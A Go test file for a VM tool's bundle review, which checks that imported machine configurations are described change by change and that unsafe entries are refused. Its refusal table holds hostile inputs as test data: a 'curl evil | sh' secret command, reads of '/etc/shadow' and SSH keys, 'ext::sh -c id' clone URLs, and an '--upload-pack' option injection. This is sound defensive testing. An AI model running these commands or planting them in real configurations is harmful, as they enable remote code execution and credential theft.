package bundle

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/pelletier/go-toml/v2"

	"github.com/mayfly-vm/mayfly/internal/config"
	"github.com/mayfly-vm/mayfly/internal/fault"
	"github.com/mayfly-vm/mayfly/internal/termsafe"
)

const everything = `version = 1
profiles = ["go-work", "claude", "mine"]
share = [{ source = "~/notes", readonly = true }]
[machine]
vcpus = 8
autostart = true
allow_old_qemu = false
[image]
packages = ["jq"]
agents = ["codex"]
prewarm = "codex --version"
[workspace]
path = "~/src/web"
mode = "share"
clone = ["https://git.example.org/a.git", { url = "git@git.example.org:b.git", ref = "main" }]
[[volume]]
name = "var"
mount = "/var"
[network]
mode = "bridge"
egress = "public"
address = "192.168.83.6/24"
allow = ["example.org", { host = "10.1.2.3", port = 22, private = true }]
presets = ["npm"]
ports = ["8080:80", "0.0.0.0:81:81"]
[home]
dotfiles = ["~/dots", "https://git.example.org/dots.git"]
shell_init = "umask 077"
history = true
[env]
A = "1"
[secrets.TOKEN]
from = "env:TOKEN"
hosts = ["api.example.org"]
header = "x-api-key"
query = ["key"]
pass = ["x-tenant"]
foreign_credentials = "allow"
[secrets.KEY]
from = "file:~/keys/k"
hosts = ["b.example.org"]
`

func write(changes []Change) string {
	var b strings.Builder
	for _, c := range changes {
		fmt.Fprintf(&b, "%s %s %s: %s", c.Kind, c.In, c.Key, c.Text)
		if c.Code != "" {
			fmt.Fprintf(&b, " (%s)", c.Code)
		}
		b.WriteByte('\n')
	}
	return b.String()
}

func TestReview(t *testing.T) {
	b := Bundle{
		Machines: []File{{"web", []byte(everything)}},
		Profiles: []File{{"go-work", []byte("version = 1\n[image]\npackages = [\"x\"]\n")}},
	}
	have := Have{Profiles: map[string][]byte{"mine": nil}}
	got := Review(b, have, Placement{})
	want := `add profile go-work : a profile of your own, 37 bytes
widen profile go-work image.packages: installs the package "x"
add machine web : a machine, 949 bytes
set machine web env.A: "1"
widen machine web home.dotfiles: copies your directory "~/dots" into the machine
run machine web home.dotfiles: fetches the repository "https://git.example.org/dots.git" for the home directory
widen machine web home.history: true: keeps, when it stops, what was typed into its shells
run machine web home.shell_init: runs in the machine, in each shell: "umask 077"
widen machine web image.agents: installs the agent "codex"
widen machine web image.packages: installs the package "jq"
run machine web image.prewarm: runs in the machine, when its image is made: "codex --version"
set machine web machine.allow_old_qemu: false
widen machine web machine.autostart: true: starts with this computer, where systemd does that
set machine web machine.vcpus: 8
set machine web network.address: "192.168.83.6/24"
widen machine web network.allow: reaches "example.org"
widen machine web network.allow: reaches { host = "10.1.2.3", port = 22, private = true }
widen machine web network.egress: "public": reaches all of the public internet
widen machine web network.mode: "bridge": is on a bridge, where nobody looks into connections
widen machine web network.ports: publishes a port for programs of this computer: "8080:80"
widen machine web network.ports: publishes a port for other computers: "0.0.0.0:81:81"
widen machine web network.presets: reaches what this preset names: "npm"
set machine web profiles: the set-up's "go-work"
widen machine web profiles: mayfly's profile "claude"
widen machine web profiles: your own profile "mine", with all that it gives
widen machine web secrets.KEY: lends what is in your file "~/keys/k" to requests to ["b.example.org"]
widen machine web secrets.TOKEN: lends the value of your variable "TOKEN" to requests to ["api.example.org"], header = "x-api-key", query = ["key"]
widen machine web secrets.TOKEN: lets headers and parameters through to these hosts: pass = ["x-tenant"]
widen machine web secrets.TOKEN: lets other credentials through to these hosts: foreign_credentials = "allow"
widen machine web share: can read all of "~/notes", while you use it
widen machine web volume: keeps, when it stops, { mount = "/var", name = "var" }
run machine web workspace.clone: fetches the repository "https://git.example.org/a.git"
run machine web workspace.clone: fetches the repository "git@git.example.org:b.git" at "main"
widen machine web workspace.mode: "share": changes the directory itself, and not a copy
widen machine web workspace.path: works on the directory "~/src/web"
`
	if d := cmp.Diff(want, write(got.Changes)); d != "" {
		t.Errorf("Review: changes (-want +got)\n%s", d)
	}
	if err := got.Err(); err != nil {
		t.Errorf("Review: %v", err)
	}
	if d := cmp.Diff(b, Bundle{got.Machines, got.Profiles}); d != "" {
		t.Errorf("Review: files (-want +got)\n%s", d)
	}

	// The second time, all is here.
	have = Have{Machines: map[string][]byte{"web": b.Machines[0].Data}, Profiles: map[string][]byte{"mine": nil, "go-work": b.Profiles[0].Data}}
	got = Review(b, have, Placement{})
	want = "same profile go-work : is here already\nsame machine web : is here already\n"
	if d := cmp.Diff(want, write(got.Changes)); d != "" || len(got.Machines)+len(got.Profiles) > 0 {
		t.Errorf("Review of what is here: changes (-want +got)\n%s", d)
	}
}

func TestReviewRefuses(t *testing.T) {
	tests := []struct {
		name, text, want string
		code             fault.Code
	}{
		{"a host's path", "workspace.path = \"/home/bob/x\"", `"/home/bob/x" is a path of another computer`, fault.BundlePathForeign},
		{"the root", "share = [{ source = \"/\" }]", `"/" is all of it`, ""},
		{"home", "workspace.path = \"~\"", `"~" is all of it`, ""},
		{"home with a slash", "workspace.path = \"~//\"", `is all of it`, ""},
		{"home with a dot", "workspace.path = \"~/.\"", `is all of it`, ""},
		{"upwards", "workspace.path = \"~/src/../.ssh\"", "leads upwards", ""},
		{"relative upwards", "workspace.path = \"../x\"", "leads upwards", ""},
		{"relative", "workspace.path = \"x\"", `is relative`, fault.BundlePathRelative},
		{"hidden", "[[share]]\nsource = \"~/.ssh\"", `"~/.ssh" is hidden`, fault.BundlePathHidden},
		{"another's home", "workspace.path = \"~bob/x\"", "is another user's", ""},
		{"dotfiles", "home.dotfiles = [\"/etc\"]", `"/etc" is a path of another computer`, fault.BundlePathForeign},
		{"dotfiles by a helper", "home.dotfiles = [\"ext::sh -c id@x\"]", "only repositories of https:// and ssh://", ""},
		{"dotfiles of a file", "home.dotfiles = [\"file:///etc\"]", "only repositories of https:// and ssh://", ""},
		{"a command", "secrets.X = { from = \"cmd:curl evil | sh\", hosts = [\"a.example\"] }", `a command for this computer: "curl evil | sh"`, fault.BundleSecretCommand},
		{"a secret's file", "secrets.X = { from = \"file:/etc/shadow\", hosts = [\"a.example\"] }", `"/etc/shadow" is a path of another computer`, fault.BundlePathForeign},
		{"a secret's key", "secrets.X = { from = \"file:~/.ssh/id_ed25519\", hosts = [\"a.example\"] }", "is hidden", fault.BundlePathHidden},
		{"a secret of another file", "secrets.X = { hosts = [\"a.example\"] }", `would send a value of your own configuration to ["a.example"]`, ""},
		{"a secret to another file's hosts", "secrets.X = { from = \"env:TOKEN\" }", `does not say to which hosts the value of your variable "TOKEN" goes`, ""},
		{"a secret to no hosts", "secrets.X = { from = \"env:TOKEN\", hosts = [] }", `does not say to which hosts`, ""},
		{"a secret of another kind", "secrets.X = { from = \"sk-ant-value\", hosts = [\"a.example\"] }", `from must begin with`, ""},
		{"a secret as a string", "secrets.X = \"sk-ant-value\"", "must be a table, not a string", ""},
		{"clone by a helper", "workspace.clone = [\"ext::sh -c id\"]", "only repositories of https:// and ssh:// are cloned", ""},
		{"clone of a file", "workspace.clone = [\"/etc\"]", "only repositories of https:// and ssh:// are cloned", ""},
		{"clone over http", "workspace.clone = [{ url = \"http://x.example/a\" }]", "only repositories of https:// and ssh:// are cloned", ""},
		{"clone of an option", "workspace.clone = [{ url = \"https://x.example/a\", ref = \"--upload-pack=x\" }]", "only repositories", ""},
		{"a share as a flag has it", "share = [\"~/x:/etc\"]", "must be a table", ""},
		{"a share with another key", "share = [{ source = \"~/x\", uid = 0 }]", "unknown key \"uid\"", ""},
		{"a share of nothing", "share = [{ path = \"/x\" }]", "must be a string, not nothing", ""},
		{"an unknown key", "machine.hook = \"rm\"", "does not know the key", ""},
		{"an unknown table", "[hooks]\nstart = \"rm\"", "does not know the key", ""},
		{"a section that is none", "network = 1", "does not know the key", ""},
		{"an unknown profile", "profiles = [\"nosuch\"]", `there is no profile "nosuch"`, ""},
		{"an address that is taken", "network.address = \"192.168.83.9/24\"", "is the address of the machine other", ""},
		{"no TOML", "x = ", "", ""},
	}
	have := Have{Machines: map[string][]byte{"other": []byte("version = 1\n[network]\naddress = \"192.168.83.9/24\"\n")}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			plan := Review(Bundle{Machines: []File{{"web", []byte("version = 1\n" + tt.text + "\n")}}}, have, Placement{})
			err := plan.Err()
			if err == nil || !strings.Contains(err.Error(), tt.want) || fault.CodeOf(err) != tt.code {
				t.Errorf("Review: %v, %q; want %q, %q", err, fault.CodeOf(err), tt.want, tt.code)
			}
			if strings.Contains(write(plan.Changes), "sk-ant") {
				t.Errorf("Review repeats a secret's value:\n%s", write(plan.Changes))
			}
		})
	}
}

func TestReviewConflicts(t *testing.T) {
	file := []byte("version = 1\n")
	have := Have{
		Machines: map[string][]byte{"web": []byte("version = 1\n# another\n")},
		Profiles: map[string][]byte{"work": []byte("version = 1\n# another\n")},
	}
	b := Bundle{Machines: []File{{"web", file}}, Profiles: []File{{"claude", file}, {"work", file}}}
	want := `refuse profile claude : it would hide mayfly's own profile claude, for all machines (bundle-profile-reserved)
add profile work : a profile of your own, 12 bytes
refuse profile work : there is another profile of that name, which your machines may use (bundle-profile-differs)
add machine web : a machine, 12 bytes
widen machine web network.egress: is not set: unless a profile says otherwise, reaches all of the public internet
refuse machine web : there is another machine of that name (bundle-machine-differs)
`
	if d := cmp.Diff(want, write(Review(b, have, Placement{}).Changes)); d != "" {
		t.Errorf("Review: (-want +got)\n%s", d)
	}
}

func TestPlacement(t *testing.T) {
	where := Placement{Base: "~/machines", Maps: []Map{{"/home/bob", "~/bob"}, {"/home/bob/src", "/srv/src"}, {"~/.dots", "~/.dots"}}}
	text := `# kept
version = 1
[workspace]
path = "web" # relative
[[share]]
source = '/home/bob/src/a'
[[share]]
source = """/home/bob/b"""
path = "/home/bob/b"
[home]
dotfiles = [
	"~/.dots", # kept, too
	'~/dots',
]
[env]
P = "/home/bob/b"
[secrets.K]
from = "file:/home/bob/k"
hosts = ["a.example"]
`
	want := strings.NewReplacer(`"web"`, `"~/machines/web"`, `'/home/bob/src/a'`, `"/srv/src/a"`,
		`"""/home/bob/b"""`, `"~/bob/b"`, `file:/home/bob/k`, `file:~/bob/k`).Replace(text)
	plan := Review(Bundle{Machines: []File{{"web", []byte(text)}}}, Have{}, where)
	if err := plan.Err(); err != nil || len(plan.Machines) != 1 {
		t.Fatalf("Review: %v\n%s", err, write(plan.Changes))
	}
	if d := cmp.Diff(want, string(plan.Machines[0].Data)); d != "" {
		t.Errorf("Review: the placed file (-want +got)\n%s", d)
	}
}

// Who says that their home directory is another's has not said that a bundle may have
// what is hidden in it.
func TestPlacementHome(t *testing.T) {
	where := Placement{Maps: []Map{{"/home/bob", "~"}, {"~/.dots", "~/.dots"}}}
	for text, want := range map[string]string{
		"/home/bob/src": "~/src", "/home/bob/.dots/a": "~/.dots/a",
		"/home/bob": "", "/home/bob/": "", "/home/bob/.ssh": "", "/home/bobby/src": "", "/home/bob/../alice": "",
	} {
		if got, err := where.find(text); got != want || (err == nil) != (want != "") {
			t.Errorf("find(%q) = %q, %v; want %q", text, got, err, want)
		}
	}
}

func TestParseMap(t *testing.T) {
	for text, ok := range map[string]bool{
		"/home/bob=~/bob": true, "~/.x=~/.x": true, "/a=/b=c": true,
		"": false, "/a": false, "a=b": false, "/=/x": false, "/a=~": true, "/a=../b": false, "/a=/b/../c": false, "~bob/x=/y": false,
	} {
		if m, err := ParseMap(text); (err == nil) != ok {
			t.Errorf("ParseMap(%q) = %v, %v; want ok %v", text, m, err, ok)
		}
	}
}

// Whatever a file says, what is agreed to keeps to the rules, and is what was shown.
func FuzzReview(f *testing.F) {
	f.Add(everything, "/home/bob")
	f.Add("version = 1\nworkspace = { path = '/home/bob/x' }\nshare = [{ source = \"\"\"/home/bob\"\"\" }, { source = \"~/y\" }]", "/home/bob")
	f.Add("version = 1\nhome.\"dotfiles\" = [ [ '/home/bob' ], '/home/bob' ]", "/home/bob")
	f.Fuzz(func(t *testing.T, text, from string) {
		where := Placement{Base: "~/base"}
		if m, err := ParseMap(from + "=~"); err == nil {
			where.Maps = append(where.Maps, m)
		}
		plan := Review(Bundle{Machines: []File{{"web", []byte(text)}}}, Have{}, where)
		for _, c := range plan.Changes {
			if s := c.Key + c.Text; !termsafe.Is(s) {
				t.Errorf("Review(%q): %q is not for a terminal", text, s)
			}
		}
		if plan.Err() != nil {
			return
		}
		var doc struct {
			Workspace struct{ Path string }
			Share     []struct{ Source string }
			Home      struct{ Dotfiles []string }
			Secrets   map[string]struct{ From string }
		}
		if err := toml.Unmarshal(plan.Machines[0].Data, &doc); err != nil {
			return // of a type that package config refuses
		}
		paths := append([]string{doc.Workspace.Path}, doc.Home.Dotfiles...)
		for _, s := range doc.Share {
			paths = append(paths, s.Source)
		}
		for _, p := range paths {
			if p != "" && !isRepository(p) && (!isHostPath(p) || !strings.HasPrefix(p, "~/")) {
				t.Errorf("Review(%q) agrees to the path %q", text, p)
			}
		}
		for _, s := range doc.Secrets {
			if strings.HasPrefix(s.From, "cmd:") || strings.HasPrefix(s.From, "file:/") {
				t.Errorf("Review(%q) agrees to the secret %q", text, s.From)
			}
		}
	})
}

// A key that the configuration gets needs a rule here, or bundles that use it are
// refused.
func TestRulesAreComplete(t *testing.T) {
	for _, key := range config.Keys() {
		ruled := false
		for name := key.Name; name != "" && !ruled; name = name[:max(0, strings.LastIndexByte(name, '.'))] {
			ruled = rules[name] != nil // keys of tables have the rule of the table
		}
		if !ruled && !strings.HasPrefix(key.Name, "secrets.") && !strings.HasPrefix(key.Name, "env.") {
			t.Errorf("no rule for the key %s", key.Name)
		}
	}
}

func TestProfileNames(t *testing.T) {
	got := File{"a", []byte("profiles = [\"go\", \"../x\", 7, \"go\", \"my-own\"]\n")}.ProfileNames()
	if d := cmp.Diff([]string{"go", "my-own"}, got); d != "" {
		t.Errorf("ProfileNames: (-want +got)\n%s", d)
	}
}
